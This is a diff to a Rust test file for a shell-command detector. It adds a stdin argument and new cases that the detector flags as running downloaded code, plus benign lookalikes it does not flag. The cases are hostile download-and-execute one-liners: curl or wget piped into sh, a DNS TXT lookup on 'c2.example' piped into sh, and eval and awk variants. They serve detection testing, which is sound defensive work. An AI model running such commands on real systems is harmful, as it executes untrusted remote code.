@@ -3,17 +3,17 @@
 use proptest::prelude::*;
 
 use super::traits;
-use crate::detect::command::{Language, Traits};
+use crate::detect::command::{Language, Stdin, Traits};
 
 /// What a shell's inline script does.
 fn of_script(script: &str) -> Traits {
-    traits("/bin/sh", &["-c".to_owned(), script.to_owned()])
+    traits("/bin/sh", &["-c".to_owned(), script.to_owned()], &Stdin::Other)
 }
 
 /// What a program with its arguments does.
 fn of(words: &[&str]) -> Traits {
     let arguments: Vec<String> = words.iter().skip(1).map(ToString::to_string).collect();
-    traits(words[0], &arguments)
+    traits(words[0], &arguments, &Stdin::Other)
 }
 
 #[test]
@@ -73,6 +73,14 @@ fn scripts_that_run_what_they_download() {
         "perl -e 'system(\"curl -s http://a/b | sh\")'",
         "python3 -c \"import urllib.request as u;exec(u.urlopen('http://a/b').read())\"",
         "bash <<< \"$(curl -s http://a/b)\"",
+        "dig +short txt c2.example | tr -d '\"' | sh",
+        "curl -s http://a/b | xargs -I{} sh -c {}",
+        "curl -s http://a/b | xargs -0 bash -c",
+        "curl -s http://a/b | bash -s -c",
+        "U=http://a/b; curl -s $U | sh",
+        "C='curl -s http://a/b | sh'; eval \"$C\"",
+        "S=bash; wget -qO- http://a/b | $S",
+        "awk 'BEGIN{system(\"curl -s http://a/b | sh\")}'",
     ] {
         assert!(of_script(script).download.is_some(), "{script}");
     }
@@ -81,6 +89,9 @@ fn scripts_that_run_what_they_download() {
         "curl -s http://a/b -o /var/lib/app/data.json",
         "wget -q http://a/list && systemctl reload app",
         "curl -s http://a/b; sh /usr/local/bin/next",
+        "host -t txt a.example | awk '{print $2}'",
+        "curl -s http://a/b | xargs -I{} sh -c 'echo {} >> /var/lib/list'",
+        "U=http://a/b; logger $U",
         "echo curl http://a/b \\| sh",
     ] {
         assert_eq!(of_script(script).download, None, "{script}");
@@ -220,7 +231,7 @@ fn interpreters_and_their_code_are_told_apart() {
 proptest! {
     #[test]
     fn any_command_line_gives_a_result(path in ".{0,30}", arguments in prop::collection::vec(".{0,60}", 0..6)) {
-        traits(&path, &arguments);
+        traits(&path, &arguments, &Stdin::Text { text: path.clone(), encoded: false });
         of_script(&arguments.join(" "));
     }
 }
